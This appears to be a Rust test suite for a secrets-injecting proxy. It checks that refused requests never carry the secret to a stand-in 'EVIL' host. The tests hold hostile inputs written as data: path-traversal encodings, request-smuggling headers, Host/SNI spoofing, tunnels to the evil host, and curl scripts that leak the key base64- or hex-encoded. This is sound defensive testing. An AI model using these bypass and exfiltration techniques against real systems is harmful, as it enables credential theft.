//! What a program tries that wants the value, or wants it sent where it must not go. Each attempt has its expected answer,
//! and a host that must not have the value sees no byte of it.

use std::process::{Command, Stdio};

use secrets_proto::session::WhyRefused;
use secretsd_tests::harness::skip;
use secretsd_tests::origin::{Odd, Origin};
use secretsd_tests::process;
use serde_json::json;

use crate::session::wait_until;
use crate::world::{EVIL, HOST, VALUE, World};

/// A request through a tunnel to `connect`, in which `KEY` stands for the placeholder.
struct Attempt {
    name: &'static str,
    connect: String,
    sni: &'static str,
    raw: String,
    /// What the answer has in it.
    expected: &'static str,
}

/// Says these requests, and gives what came back of each.
pub fn said(world: &World, arguments: &[&str], cases: &[serde_json::Value]) -> Vec<String> {
    let script = "exec python3 attempts.py";
    std::fs::write(world.env.path("attempts.py"), include_str!("attempts.py")).unwrap();
    // The placeholder is the program's alone to know.
    let filled = format!("sed \"s|KEY|$KEY|g\" cases > filled; {script} < filled");
    let lines: Vec<String> = cases.iter().map(ToString::to_string).collect();
    std::fs::write(world.env.path("cases"), format!("{}\n", lines.join("\n"))).unwrap();
    let output = world.run_with(arguments, &["sh", "-c", &filled]);
    world.assert_nowhere(&output);
    let answers: Vec<String> = output.out().lines().map(str::to_owned).collect();
    assert_eq!(answers.len(), cases.len(), "{}{}", output.out(), output.err());
    answers
}

pub fn has_python() -> bool {
    Command::new("python3").arg("-V").stdout(Stdio::null()).status().is_ok_and(|status| status.success())
}

#[test]
fn no_attempt_gets_the_value_to_where_it_must_not_go() {
    let test = "no_attempt_gets_the_value_to_where_it_must_not_go";
    if !has_python() {
        return skip(test, "python3 is not installed");
    }
    let Some(world) = World::new(test) else { return };
    world.rule(&[
        "--host",
        &world.host(),
        "--method",
        "GET,POST",
        "--path",
        "/v1/**",
        "--except",
        "/v1/admin/**",
    ]);
    let (host, evil) = (world.host(), format!("{EVIL}:{}", world.evil.port));
    let bearer = "Authorization: Bearer KEY\r\n";
    let get = |path: &str, more: &str| {
        format!("GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n{more}\r\n")
    };
    let at = |name, raw: String, expected| Attempt { name, connect: host.clone(), sni: HOST, raw, expected };
    let attempts = vec![
        at("as it is meant", get("/v1/echo", bearer), "200 OK"),
        at("another path", get("/v2/echo", bearer), "\"rule_mismatch\""),
        at("an excepted path", get("/v1/admin/keys", bearer), "\"rule_mismatch\""),
        at("an excepted path, encoded", get("/v1/%61dmin/keys", bearer), "\"rule_mismatch\""),
        at("dot segments", get("/v1/x/../admin/keys", bearer), "\"ambiguous_path\""),
        at("encoded dot segments", get("/v1/x/%2e%2e/admin/keys", bearer), "\"ambiguous_path\""),
        at("an encoded slash", get("/v1/x%2f..%2fadmin", bearer), "\"ambiguous_path\""),
        at("twice encoded", get("/v1/%252e%252e/admin", bearer), "\"ambiguous_path\""),
        at("a doubled slash", get("/v1//admin/keys", bearer), "\"ambiguous_path\""),
        at("a backslash", get("/v1/x%5c..%5cadmin", bearer), "\"ambiguous_path\""),
        at("a null byte", get("/v1/x%00", bearer), "\"ambiguous_path\""),
        at("a parameter of a segment", get("/v1/x;/admin", bearer), "\"ambiguous_path\""),
        at("another method", get("/v1/echo", bearer).replace("GET", "DELETE"), "\"rule_mismatch\""),
        at("a method in lower case", get("/v1/echo", bearer).replace("GET", "get"), "\"rule_mismatch\""),
        at("in the user agent", get("/v1/echo", "User-Agent: KEY\r\n"), "\"placeholder_misplaced\""),
        at("in a cookie", get("/v1/echo", "Cookie: a=KEY\r\n"), "\"placeholder_misplaced\""),
        at("in the path", get("/v1/KEY", ""), "\"placeholder_misplaced\""),
        at("in the query", get("/v1/echo?key=KEY", ""), "\"placeholder_misplaced\""),
        at("twice", get("/v1/echo", &format!("{bearer}X-More: KEY\r\n")), "\"placeholder_repeated\""),
        at("in two fields of one name", get("/v1/echo", &bearer.repeat(2)), "\"placeholder_repeated\""),
        at(
            "with a word more",
            get("/v1/echo", "Authorization: Bearer KEY x\r\n"),
            "\"placeholder_misplaced\"",
        ),
        at(
            "behind two spaces",
            get("/v1/echo", "Authorization: Bearer  KEY\r\n"),
            "\"placeholder_misplaced\"",
        ),
        at(
            "another Host",
            get("/v1/echo", bearer).replacen(&format!("Host: {host}"), &format!("Host: {evil}"), 1),
            "\"host_mismatch\"",
        ),
        at("two Hosts", get("/v1/echo", &format!("Host: {evil}\r\n{bearer}")), "400"),
        at("two equal Hosts", get("/v1/echo", &format!("Host: {host}\r\n{bearer}")), "400"),
        at("no Host", get("/v1/echo", bearer).replace(&format!("Host: {host}\r\n"), ""), "\"host_mismatch\""),
        at(
            "the Host without its port",
            get("/v1/echo", bearer).replacen(&format!("Host: {host}"), &format!("Host: {HOST}"), 1),
            "\"host_mismatch\"",
        ),
        at("an absolute target", get(&format!("https://{evil}/v1/echo"), bearer), "\"host_mismatch\""),
        at("an absolute target without TLS", get(&format!("http://{host}/v1/echo"), bearer), "400"),
        at(
            "a tunnel in the tunnel",
            format!("CONNECT {evil} HTTP/1.1\r\nHost: {evil}\r\n{bearer}\r\n"),
            "400",
        ),
        at(
            "two lengths",
            get("/v1/echo", &format!("{bearer}Content-Length: 1\r\nContent-Length: 2\r\n")),
            "400",
        ),
        // Chunks count (RFC 9112, section 6.3), and what goes on is framed again.
        at(
            "length and chunks",
            get("/v1/echo", &format!("{bearer}Content-Length: 3\r\nTransfer-Encoding: chunked\r\n"))
                + "0\r\n\r\n",
            "\"body\":\"\"",
        ),
        at(
            "an unknown transfer coding",
            get("/v1/echo", &format!("{bearer}Transfer-Encoding: xchunked\r\n")),
            "400",
        ),
        at(
            "another method for the host",
            get("/v1/echo", &format!("{bearer}X-HTTP-Method-Override: DELETE\r\n")),
            "\"smuggling\"",
        ),
        at(
            "another method, with _",
            get("/v1/echo", &format!("{bearer}X_HTTP_Method: DELETE\r\n")),
            "\"smuggling\"",
        ),
        at("another method in the query", get("/v1/echo?a=b&_method=DELETE", bearer), "\"smuggling\""),
        at(
            "another path for the host",
            get("/v1/echo", &format!("{bearer}X-Original-URL: /v1/admin\r\n")),
            "\"smuggling\"",
        ),
        at(
            "one more path for the host",
            get("/v1/echo", &format!("{bearer}X-Rewrite-Url: /v1/admin\r\n")),
            "\"smuggling\"",
        ),
        // One is left of them (RFC 9112, section 6.3).
        at(
            "two equal lengths",
            get("/v1/echo", &format!("{bearer}Content-Length: 0\r\nContent-Length: 0\r\n")),
            "200 OK",
        ),
        // It goes no further, so that no value is taken for it.
        at(
            "a field for one step",
            get("/v1/echo?step", bearer).replace("close", "close, authorization"),
            "200 OK",
        ),
        at("a folded field", get("/v1/echo", "Authorization: Bearer\r\n KEY\r\n"), "400"),
        at("a space before the colon", get("/v1/echo", "Authorization : Bearer KEY\r\n"), "400"),
        at("HTTP/1.0", get("/v1/echo", bearer).replace("HTTP/1.1", "HTTP/1.0"), "426"),
        at("the version in clear", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_owned(), ""),
        at("a target that is none", get("*", bearer).replace("GET", "OPTIONS"), "400"),
        Attempt {
            name: "another name in TLS",
            connect: host.clone(),
            sni: EVIL,
            raw: get("/v1/echo", bearer),
            expected: "\"host_mismatch\"",
        },
        Attempt {
            name: "a tunnel to another host",
            connect: evil.clone(),
            sni: EVIL,
            raw: get("/v1/echo", bearer).replace(&host, &evil),
            expected: "\"host_not_allowed\"",
        },
        Attempt {
            name: "a tunnel to another host, for ours",
            connect: evil.clone(),
            sni: HOST,
            raw: get("/v1/echo", bearer),
            expected: "\"host_mismatch\"",
        },
        Attempt {
            name: "a tunnel to an address",
            connect: format!("127.0.0.1:{}", world.origin.port),
            sni: HOST,
            raw: get("/v1/echo", bearer),
            expected: "\"host_mismatch\"",
        },
        Attempt {
            name: "another port",
            connect: format!("{HOST}:{}", world.evil.port),
            sni: HOST,
            raw: get("/v1/echo", bearer).replace(&host, &format!("{HOST}:{}", world.evil.port)),
            expected: "\"host_not_allowed\"",
        },
        at("a long path", get(&format!("/v1/{}", "x".repeat(9000)), bearer), "\"rule_mismatch\""),
        at("a path that is no ASCII", get("/v1/\u{e9}", bearer), "400"),
        Attempt {
            name: "a name with _",
            connect: format!("a_b.test:{}", world.evil.port),
            sni: HOST,
            raw: get("/v1/echo", bearer),
            expected: "\"host_mismatch\"",
        },
        Attempt {
            name: "a name with a dot at its end",
            connect: host.replace(HOST, &format!("{HOST}.")),
            sni: HOST,
            raw: get("/v1/echo", bearer),
            expected: "\"host_mismatch\"",
        },
    ];
    let cases: Vec<_> = attempts
        .iter()
        .map(|attempt| json!({ "connect": attempt.connect, "sni": attempt.sni, "raw": attempt.raw }))
        .collect();
    let answers = said(&world, &["-s", "KEY"], &cases);
    for (attempt, answer) in attempts.iter().zip(&answers) {
        assert!(answer.contains(attempt.expected), "{}: {answer}", attempt.name);
    }
    assert!(world.evil.seen().is_empty(), "{:?}", world.evil.seen());
    // Each refusal is in the log.
    let refused = |answer: &&String| {
        WhyRefused::ALL.iter().any(|why| answer.contains(&format!("\"{}\"", why.as_str())))
    };
    let expected = answers.iter().filter(refused).count() as u64;
    let logged = || -> u64 {
        let audit = world.env.ctl(["audit", "--json"]).expect(0);
        let entries = audit.lines().map(|line| serde_json::from_str::<serde_json::Value>(line).unwrap());
        let denied = entries.filter(|entry| !entry["refusal"].is_null());
        denied.map(|entry| entry["count"].as_u64().unwrap_or(1)).sum()
    };
    wait_until("an entry for each refusal", || logged() == expected);
    // The host got it where it may, and nowhere else.
    for seen in world.origin.seen() {
        let value = seen.header("authorization").is_some_and(|value| value.ends_with(VALUE));
        assert!(!value || seen.line.starts_with("GET /v1/echo"), "{}", seen.line);
        assert!(!value || !seen.line.ends_with("step"), "{}", seen.line);
        assert!(!seen.headers.contains("ssdph"), "a placeholder left: {}", seen.whole());
    }
}

#[test]
fn a_placeholder_in_any_spelling_is_misplaced() {
    let Some(world) = World::new("a_placeholder_in_any_spelling_is_misplaced") else { return };
    world.rule(&["--host", &world.host()]);
    let url = world.url("/v1/echo");
    let script = format!(
        "b=$(printf %s \"$KEY\" | base64 -w0); x=$(printf %s \"x$KEY\" | base64 -w0); h=$(printf %s \"$KEY\" | od -An -tx1 | tr -d ' \\n')
        p=$(printf %s \"$h\" | sed 's/../%&/g')
        for value in \"$b\" \"$x\" \"$h\" \"$p\" \"a $KEY b\"; do
            curl -sS -H \"X-Any: $value\" {url}; echo
            curl -sS -H \"Cookie: a=$value\" {url}; echo
        done
        for value in \"$b\" \"$h\" \"$p\"; do curl -sS \"{url}?q=$value\"; echo; done"
    );
    let output = world.run(&["sh", "-c", &script]);
    let out = output.out();
    let answers: Vec<&str> = out.lines().collect();
    assert_eq!(answers.len(), 13, "{out}{}", output.err());
    for answer in answers {
        assert!(answer.contains("\"placeholder_misplaced\""), "{answer}");
    }
    assert!(world.origin.seen().is_empty());
}

#[test]
fn over_http_2_another_host_is_refused_too() {
    let Some(world) = World::new("over_http_2_another_host_is_refused_too") else { return };
    world.rule(&["--host", &world.host()]);
    let url = world.url("/v1/echo");
    let script = format!(
        "for host in {EVIL}:{} {HOST}; do curl -sS --http2 -H \"Host: $host\" -H \"Authorization: Bearer $KEY\" {url}; echo; done
        curl -sS --http2 -H \"Authorization: Bearer $KEY\" -H \"X-Copy: $KEY\" {url}",
        world.evil.port
    );
    let out = world.run(&["sh", "-c", &script]).out();
    let answers: Vec<&str> = out.lines().collect();
    assert!(answers[0].contains("\"host_mismatch\"") && answers[1].contains("\"host_mismatch\""), "{out}");
    assert!(answers[2].contains("\"placeholder_repeated\""), "{out}");
    assert!(world.origin.seen().is_empty() && world.evil.seen().is_empty());
}

#[test]
fn without_tls_nothing_carries_a_value() {
    let Some(world) = World::new("without_tls_nothing_carries_a_value") else { return };
    world.rule(&["--host", &world.host()]);
    let url = world.url("/v1/echo").replace("https://", "http://");
    let script = format!(
        "curl -sS -H \"Authorization: Bearer $KEY\" {url}; echo; curl -sS {url}; echo; curl -sS http://127.0.0.1:${{HTTPS_PROXY##*:}}/"
    );
    let output = world.run(&["sh", "-c", &script]);
    let out = output.out();
    let answers: Vec<&str> = out.lines().collect();
    assert!(answers[0].contains("\"plain_http\""), "{out}");
    assert!(answers[1].contains("\"host_not_allowed\""), "{out}");
    assert!(answers[2].contains("\"proxy_request\""), "{out}");
    assert!(world.origin.seen().is_empty());
}

#[test]
fn a_host_that_cannot_be_trusted_gets_nothing() {
    let Some(world) = World::new("a_host_that_cannot_be_trusted_gets_nothing") else { return };
    for (odd, says) in [
        (Odd::Expired, "expired"),
        (Odd::SelfSigned, "not signed by an authority that this machine trusts"),
        (Odd::OtherName, "another name"),
    ] {
        let origin = Origin::with(&world.authority, &[HOST], odd, &["http/1.1"]);
        let host = format!("{HOST}:{}", origin.port);
        world.rule(&["--host", &host]);
        let script = format!("curl -sS -H \"Authorization: Bearer $KEY\" https://{host}/v1/echo");
        let output = world.run(&["sh", "-c", &script]);
        let error = output.json();
        assert_eq!(
            (&error["code"], &error["errors"][0]["type"]),
            (&502.into(), &"upstream_tls".into()),
            "{odd:?}"
        );
        assert!(error["errors"][0]["msg"].as_str().unwrap().contains(says), "{error}");
        assert!(origin.seen().is_empty());
    }
}

#[test]
fn a_host_with_a_private_address_is_refused_unless_a_rule_allows_it() {
    let Some(world) = World::new("a_host_with_a_private_address_is_refused_unless_a_rule_allows_it") else {
        return;
    };
    world.env.ctl(["proxy", "rule", "set", "KEY", "--host", &world.host()]).expect(0);
    let script =
        format!("curl -sS -H \"Authorization: Bearer $KEY\" {0}; echo; curl -sS {0}", world.url("/v1/echo"));
    let output = world.run(&["sh", "-c", &script]);
    for answer in output.out().lines() {
        assert!(answer.contains("\"private_address\"") && answer.contains("--private"), "{answer}");
    }
    assert!(world.origin.seen().is_empty());
}

#[test]
fn a_host_that_is_down_or_unknown_is_said_as_such() {
    let Some(world) = World::new("a_host_that_is_down_or_unknown_is_said_as_such") else { return };
    let nobody = format!("{HOST}:{}", secretsd_tests::origin::nobody().port());
    world.rule(&["--host", &nobody]);
    world.rule(&["--host", "no-such-host.invalid"]);
    let script = format!(
        "curl -sS -H \"Authorization: Bearer $KEY\" https://{nobody}/; echo; curl -sS -H \"Authorization: Bearer $KEY\" https://no-such-host.invalid/"
    );
    let out = world.run(&["sh", "-c", &script]).out();
    let answers: Vec<&str> = out.lines().collect();
    assert!(answers[0].contains("\"connect\"") && answers[0].contains("502"), "{out}");
    assert!(answers[1].contains("\"name_resolution\""), "{out}");
}

#[test]
fn what_is_let_through_is_tls_to_the_host_that_was_named() {
    let test = "what_is_let_through_is_tls_to_the_host_that_was_named";
    if !has_python() {
        return skip(test, "python3 is not installed");
    }
    let Some(world) = World::new(test) else { return };
    world.rule(&["--host", &world.host()]);
    let evil = format!("{EVIL}:{}", world.evil.port);
    let get = format!("GET /v1/echo HTTP/1.1\r\nHost: {evil}\r\nConnection: close\r\n\r\n");
    let cases = [
        json!({ "connect": evil, "sni": EVIL, "raw": get }),
        json!({ "connect": evil, "sni": HOST, "raw": get }),
        json!({ "connect": evil, "plain": true, "raw": get }),
        json!({ "connect": format!("127.0.0.1:{}", world.evil.port), "sni": EVIL, "raw": get }),
    ];
    let answers = said(&world, &["-s", "KEY", "--allow", &evil], &cases);
    assert!(answers[0].starts_with("200"), "{answers:?}");
    assert!(answers[1].starts_with("failed") || answers[1] == "closed", "{answers:?}");
    assert_eq!(answers[2], "closed");
    assert!(answers[3].contains("\"host_mismatch\""), "{answers:?}");
    assert_eq!(world.evil.seen().len(), 1);
}

#[test]
fn without_tls_too_the_host_is_the_one_that_was_let_through() {
    let test = "without_tls_too_the_host_is_the_one_that_was_let_through";
    if !has_python() {
        return skip(test, "python3 is not installed");
    }
    let Some(world) = World::new(test) else { return };
    world.rule(&["--host", &world.host()]);
    let evil = format!("{EVIL}:{}", world.evil.port);
    let get = |version: &str, more: &str| json!({ "raw": format!("GET http://{evil}/echo HTTP/{version}\r\nConnection: close\r\n{more}\r\n") });
    let cases = [
        get("1.1", "Host: internal.admin\r\n"),
        get("1.1", &format!("Host: {evil}\r\nHost: internal.admin\r\n")),
        get("1.0", &format!("Host: {evil}\r\n")),
        get("1.1", &format!("Host: {evil}\r\n")),
    ];
    let answers = said(&world, &["-s", "KEY", "--allow", &evil], &cases);
    assert!(answers[0].contains("\"host_mismatch\""), "{answers:?}");
    assert!(answers[1].starts_with("400"), "{answers:?}");
    assert!(answers[2].starts_with("426"), "{answers:?}");
    // The host speaks TLS alone, and yet it is asked.
    assert!(answers[3].starts_with("502"), "{answers:?}");
}

#[test]
fn tunnels_count_as_connections() {
    let test = "tunnels_count_as_connections";
    if !has_python() {
        return skip(test, "python3 is not installed");
    }
    let Some(world) = World::new(test) else { return };
    world.rule(&["--host", &world.host()]);
    let script = format!(
        "import os, socket, urllib.parse
proxy = urllib.parse.urlsplit(os.environ['HTTPS_PROXY'])
def tunnel(patience):
    stream = socket.create_connection((proxy.hostname, proxy.port), timeout=patience)
    stream.sendall(b'CONNECT {0} HTTP/1.1\\r\\nHost: {0}\\r\\n\\r\\n')
    return stream
def answer(stream):
    try: return stream.recv(4096)[9:12].decode()
    except TimeoutError: return 'waits'
tunnels = [tunnel(20) for _ in range(256)]
print(*{{answer(stream) for stream in tunnels}})
more = tunnel(1)
print(answer(more))
tunnels.pop().close()
more.settimeout(20)
print(answer(more))",
        world.host()
    );
    let output = world.run(&["python3", "-c", &script]);
    assert_eq!(
        output.out().split_whitespace().collect::<Vec<_>>(),
        ["200", "waits", "200"],
        "{}",
        output.err()
    );
}

#[test]
fn a_body_of_unknown_length_arrives_with_any_method() {
    let Some(world) = World::with("a_body_of_unknown_length_arrives_with_any_method", &["http/1.1"]) else {
        return;
    };
    world.rule(&["--host", &world.host()]);
    for version in ["--http1.1", "--http2"] {
        for method in ["GET", "POST", "DELETE"] {
            let url = world.url("/v1/echo");
            let script = format!(
                "printf 'a body' | curl -sSf {version} -X {method} -T - -H \"Authorization: Bearer $KEY\" {url}"
            );
            let output = world.run(&["sh", "-c", &script]);
            assert_eq!(output.code, Some(0), "{version} {method} {}", output.err());
            assert_eq!(world.origin.last().body, "a body", "{version} {method}");
        }
    }
}

#[test]
fn many_connections_are_served_and_bounded() {
    let test = "many_connections_are_served_and_bounded";
    if !has_python() {
        return skip(test, "python3 is not installed");
    }
    let Some(world) = World::new(test) else { return };
    world.rule(&["--host", &world.host()]);
    let script = format!(
        "import os, socket, subprocess, urllib.parse
proxy = urllib.parse.urlsplit(os.environ['HTTPS_PROXY'])
idle = [socket.create_connection((proxy.hostname, proxy.port)) for _ in range(200)]
curl = ['curl', '-sS', '-o', '/dev/null', '-w', '%{{http_code}}', '-H', 'Authorization: Bearer ' + os.environ['KEY'], '{}']
print(subprocess.run(curl, capture_output=True, text=True, timeout=20).stdout)
more = [socket.create_connection((proxy.hostname, proxy.port)) for _ in range(100)]
for stream in idle + more: stream.close()
print(subprocess.run(curl, capture_output=True, text=True, timeout=20).stdout)",
        world.url("/v1/echo")
    );
    let output = world.run(&["python3", "-c", &script]);
    assert_eq!(output.out().split_whitespace().collect::<Vec<_>>(), ["200", "200"], "{}", output.err());
}

#[test]
fn a_session_without_the_scope_use_is_none() {
    let Some(world) = World::new("a_session_without_the_scope_use_is_none") else { return };
    world.rule(&["--host", &world.host()]);
    let request = json!({ "name": "reader", "scopes": ["list", "reveal"] });
    let token = world.env.post("/tokens", &request).expect(201)["token"].as_str().unwrap().to_owned();
    let mut command = world.command_with(&["-s", "KEY"], &["echo", "it runs"]);
    let (_, output) = process::run(command.env("SECRETSD_TOKEN", &token), b"");
    assert_eq!(output.status.code(), Some(125));
    assert!(String::from_utf8_lossy(&output.stderr).contains("use"), "{output:?}");
    let request = json!({ "name": "agent", "scopes": ["use"] });
    let token = world.env.post("/tokens", &request).expect(201)["token"].as_str().unwrap().to_owned();
    let mut command = world.command_with(&["-s", "KEY"], &["sh", "-c", "echo \"token: $SECRETSD_TOKEN.\""]);
    let (_, output) = process::run(command.env("SECRETSD_TOKEN", &token), b"");
    assert_eq!(String::from_utf8_lossy(&output.stdout), "token: .\n", "{output:?}");
}

#[test]
fn a_program_that_goes_away_ends_what_it_asked_for() {
    let Some(world) = World::new("a_program_that_goes_away_ends_what_it_asked_for") else { return };
    world.rule(&["--host", &world.host()]);
    let script = format!(
        "curl -sSN --max-time 1 -H \"Authorization: Bearer $KEY\" {}; echo \"status $?\"",
        world.url("/v1/events")
    );
    let mut command = world.command_with(&["-s", "KEY"], &["sh", "-c", &script]);
    let output = process::run(&mut command, b"").1;
    assert!(String::from_utf8_lossy(&output.stdout).contains("status 28"), "{output:?}");
}
